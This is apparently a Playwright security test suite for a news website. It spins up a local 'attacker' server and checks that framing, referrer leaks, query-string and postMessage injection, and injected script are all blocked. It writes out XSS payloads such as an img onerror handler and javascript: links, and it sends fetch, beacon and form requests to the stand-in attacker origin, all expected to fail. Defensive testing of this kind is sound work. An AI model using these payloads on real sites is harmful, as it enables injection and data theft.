/**
 * Another site attacks a reader of ours: by its frame, by the window that it opened, by messages, and by what it puts
 * into the addresses that it links to. And once script does get into a page, the page's policy leaves it nothing to do.
 */

import { createServer, type Server } from 'node:http';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { hostileTexts } from '../fixtures/hostile-pieces.ts';
import { startReader } from './reader.ts';

const reader = await startReader();
afterEach(reader.closePages);
afterAll(reader.close);

/** Asked by nobody: requests that reached the attacker, but for its own page. */
let received: string[] = [];
beforeEach(() => {
  received = [];
});
let attacker: Server;
let attackerOrigin: string;

beforeAll(async () => {
  attacker = createServer((request, response) => {
    if (request.url !== '/' && request.url !== '/favicon.ico') received.push(request.url ?? '');
    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
    response.end(
      `<!doctype html><title>Attack</title><iframe src="${reader.origin}/about/"></iframe><button>Open</button>`,
    );
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const address = attacker.address();
  if (address === null || typeof address === 'string') throw new Error('The attacker has no port.');
  attackerOrigin = `http://127.0.0.1:${address.port}`;
});
afterAll(async () => {
  const closed = new Promise((resolve) => attacker.close(resolve));
  attacker.closeAllConnections();
  await closed;
});

describe('a page of another site', () => {
  test('cannot show a page of ours in a frame, nor keep a hold on one that it opens', async () => {
    const { page } = await reader.open('/');
    await page.goto(attackerOrigin);
    const frame = page.frames().find((one) => one !== page.mainFrame());
    await frame?.waitForLoadState();
    expect(await frame?.title()).not.toContain('News');
    expect(frame?.url()).toMatch(/^chrome-error:/u);

    const [popup] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate((address) => {
        const opened = window.open(address);
        Object.assign(window, { opened });
      }, `${reader.origin}/about/`),
    ]);
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    await page.waitForFunction(() => 'opened' in window && (window.opened as Window).closed);
  });

  test('is told no more of a reader who follows a link than our name', async () => {
    const { page } = await reader.open('/');
    const referrer = await page.evaluate(async (address) => {
      const link = document.createElement('a');
      link.href = address;
      document.body.append(link);
      link.click();
      return address;
    }, `${attackerOrigin}/`);
    await page.waitForURL(referrer);
    expect(await page.evaluate(() => document.referrer)).toMatch(/^$|^http:\/\/127\.0\.0\.1:\d+\/$/u);
  });
});

describe('what stands in an address', () => {
  const queries = hostileTexts.filter((text) => /[<"']/u.test(text)).slice(0, 4);
  test.each(['/search/', '/photos/', '/2024/01/ustb-puth-agreement/'])(
    'never becomes part of %s',
    async (url) => {
      const { page, troubles } = await reader.open(url);
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const elements = () =>
        page.locator('script, iframe, object, embed, base, form, link[rel=stylesheet]').count();
      const before = await elements();
      for (const text of queries) {
        const encoded = encodeURIComponent(text);
        const query = ['q', 'topic', 'year', 'person', 'lang'].map((name) => `${name}=${encoded}`).join('&');
        await page.goto('about:blank');
        await page.goto(`${reader.origin}${url}?${query}#${encoded}`);
        await page.evaluate((message) => {
          location.hash = `photo-1${message}`;
          window.postMessage(message, '*');
          window.postMessage({ type: 'open', url: `javascript:${message}`, html: message }, '*');
          window.dispatchEvent(new PopStateEvent('popstate', { state: message }));
        }, text);
        expect(
          await page.locator('[onerror], [onload], [onfocus], [onmouseover], [style*=evil]').count(),
        ).toBe(0);
      }
      await page.waitForLoadState('networkidle');
      expect(await elements()).toBeLessThanOrEqual(before + 1);
      expect(dialogs).toEqual([]);
      expect(troubles).toEqual([]);
    },
  );
});

describe('script that got into a page all the same', () => {
  test.each(['/2024/01/ustb-puth-agreement/', '/search/', '/404.html'])(
    'makes no HTML, no further script, and reaches nobody from %s',
    async (url) => {
      const { page } = await reader.open(url);
      const done = await page.evaluate(async (evil) => {
        // What the test itself calls may use eval; what a timer calls is the page's own.
        await new Promise((resolve) => setTimeout(resolve, 0));
        const worked: string[] = [];
        const attempt = async (name: string, act: () => unknown) => {
          try {
            await act();
            worked.push(name);
          } catch {
            // As it should be.
          }
        };
        const place = document.body;
        const markup = '<img src=x onerror="window.owned = true">';
        await attempt('innerHTML', () => {
          place.innerHTML = markup;
        });
        await attempt('outerHTML', () => {
          place.outerHTML = markup;
        });
        await attempt('insertAdjacentHTML', () => place.insertAdjacentHTML('beforeend', markup));
        await attempt('document.write', () => document.write(markup));
        await attempt('srcdoc', () => {
          document.createElement('iframe').srcdoc = markup;
        });
        await attempt('DOMParser', () => new DOMParser().parseFromString(markup, 'text/html'));
        await attempt('createContextualFragment', () =>
          document.createRange().createContextualFragment(markup),
        );
        // biome-ignore lint/security/noGlobalEval: it must not work
        await attempt('eval', () => window.eval('window.owned = true'));
        await attempt('Function', () => new Function('window.owned = true')());
        await attempt('setTimeout', () => setTimeout('window.owned = true', 0));
        await attempt('script text', () => {
          document.createElement('script').text = 'window.owned = true';
        });
        await attempt('script src', () => {
          document.createElement('script').src = `${evil}/script.js`;
        });
        await attempt('createPolicy', () => {
          const { trustedTypes } = window as unknown as {
            trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
          };
          return trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
        });
        await attempt('setAttribute', () => place.setAttribute('onclick', 'window.owned = true'));
        for (const address of [`${evil}/module.js`, 'data:text/javascript,window.owned=true'])
          await attempt('import', () => import(/* @vite-ignore */ address));
        await attempt('fetch', () => fetch(`${evil}/fetch`));
        await attempt('Worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
        await attempt('serviceWorker', () => navigator.serviceWorker.register('/search/worker.js'));
        await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
        // These fail without a word: what counts is that nothing arrives.
        navigator.sendBeacon(`${evil}/beacon`);
        const element = (name: string, attributes: Record<string, string>) => {
          const made = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) {
            try {
              made.setAttribute(key, value);
            } catch {
              // Forbidden already.
            }
          }
          place.append(made);
          return made;
        };
        element('img', { src: `${evil}/image` });
        element('iframe', { src: `${evil}/frame` });
        element('link', { rel: 'stylesheet', href: `${evil}/style.css` });
        element('object', { data: `${evil}/object` });
        element('video', { src: `${evil}/video` });
        element('base', { href: evil });
        element('style', {}).textContent = `body { background: url(${evil}/css) }`;
        const anchor = element('a', { href: 'javascript:window.owned = true' });
        anchor.click();
        const form = element('form', { action: `${evil}/form`, method: 'post' });
        if (form instanceof HTMLFormElement) form.submit();
        await new Promise((resolve) => setTimeout(resolve, 300));
        if ('owned' in window) worked.push('owned');
        if (document.baseURI.startsWith(evil)) worked.push('base');
        return worked;
      }, attackerOrigin);
      expect(done).toEqual([]);
      expect(received).toEqual([]);
      expect(page.url()).toBe(reader.origin + url);
    },
  );
});

test('readers are given nothing to keep but the look that they chose', async () => {
  const { page } = await reader.open('/');
  const answers: string[] = [];
  page.on('response', (response) => {
    if (response.headers()['set-cookie'] !== undefined) answers.push(response.url());
  });
  for (const url of ['/', '/zh/', '/topics/', '/photos/', '/archive/2024/01/', '/about/'])
    await page.goto(reader.origin + url);
  await page.goto(`${reader.origin}/search/?q=steel`);
  await page.locator('.search-results li').first().waitFor();
  await page.goto(`${reader.origin}/2024/01/ustb-puth-agreement/#photo-1`);
  await page.locator('dialog.viewer[open]').waitFor();
  await page.keyboard.press('Escape');
  const keptBefore = await page.evaluate(() => Object.keys(localStorage));
  await page.locator('.theme-switch select').selectOption('dark');
  const kept = await page.evaluate(async () => ({
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    cookie: document.cookie,
  }));
  expect(keptBefore).toEqual([]);
  expect(kept).toEqual({ local: ['theme'], session: [], databases: 0, caches: 0, workers: 0, cookie: '' });
  expect(await page.context().cookies()).toEqual([]);
  expect(answers).toEqual([]);
});
